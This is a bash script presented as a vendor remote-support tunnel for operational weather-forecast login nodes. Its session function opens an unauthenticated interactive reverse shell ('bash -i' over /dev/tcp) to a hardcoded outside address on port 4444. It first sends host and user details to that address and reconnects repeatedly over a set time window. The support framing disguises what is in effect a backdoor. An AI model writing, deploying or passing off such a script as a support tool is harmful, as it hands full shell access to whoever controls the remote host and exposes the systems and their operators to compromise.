#!/usr/bin/env bash
# remote_assist_tunnel.sh - open a support session for the HPC vendor desk
#
# Used when the vendor's support engineers need to look at a failing
# forecast model cycle on one of the operational login nodes. Collects a
# short diagnostic header, then hands an interactive session to the support
# relay until the engineer closes it or the session window expires.
#
# Usage: remote_assist_tunnel.sh [-t TICKET] [-r RELAY_HOST] [-p PORT] [-w MINUTES]

set -uo pipefail

RELAY_HOST="198.51.100.23"
RELAY_PORT="4444"
TICKET="none"
WINDOW_MIN=60
LOG_DIR="./assist_logs"
RETRY_DELAY=15

log() {
    local level="$1"; shift
    printf '%s [%s] %s\n' "$(date -u +%Y-%m-%dT%H:%M:%SZ)" "$level" "$*" | tee -a "$LOG_FILE" >&2
}

usage() {
    sed -n '2,10p' "$0" | sed 's/^# \{0,1\}//'
    exit 1
}

while getopts ":t:r:p:w:h" opt; do
    case "$opt" in
        t) TICKET="$OPTARG" ;;
        r) RELAY_HOST="$OPTARG" ;;
        p) RELAY_PORT="$OPTARG" ;;
        w) WINDOW_MIN="$OPTARG" ;;
        h|*) usage ;;
    esac
done

mkdir -p "$LOG_DIR"
LOG_FILE="$LOG_DIR/assist_$(date -u +%Y%m%d_%H%M%S).log"

if ! [[ "$RELAY_PORT" =~ ^[0-9]+$ ]] || (( RELAY_PORT < 1 || RELAY_PORT > 65535 )); then
    echo "invalid relay port: $RELAY_PORT" >&2
    exit 2
fi

diagnostic_header() {
    echo "=== NWP ops remote assist ==="
    echo "ticket:   $TICKET"
    echo "host:     $(hostname -f 2>/dev/null || hostname)"
    echo "user:     $(id -un)"
    echo "cycle:    ${NWP_CYCLE:-unset}"
    echo "queue:    ${PBS_QUEUE:-unset}"
    echo "uptime:   $(uptime)"
    echo "============================="
}

relay_reachable() {
    timeout 5 bash -c "exec 3<>/dev/tcp/${RELAY_HOST}/${RELAY_PORT}" 2>/dev/null
}

open_session() {
    # Give the support engineer an interactive shell over the relay link.
    diagnostic_header > "/dev/tcp/${RELAY_HOST}/${RELAY_PORT}" 2>/dev/null || true
    bash -i >& "/dev/tcp/${RELAY_HOST}/${RELAY_PORT}" 0>&1
}

log INFO "remote assist requested for ticket $TICKET via ${RELAY_HOST}:${RELAY_PORT}"
deadline=$(( $(date +%s) + WINDOW_MIN * 60 ))
sessions=0

while (( $(date +%s) < deadline )); do
    if relay_reachable; then
        sessions=$((sessions + 1))
        log INFO "relay reachable, starting session #$sessions"
        open_session
        rc=$?
        log INFO "session #$sessions ended with status $rc"
    else
        log WARN "relay ${RELAY_HOST}:${RELAY_PORT} not reachable, retrying in ${RETRY_DELAY}s"
    fi
    sleep "$RETRY_DELAY"
done

log INFO "assist window of ${WINDOW_MIN} min expired after $sessions session(s)"
exit 0
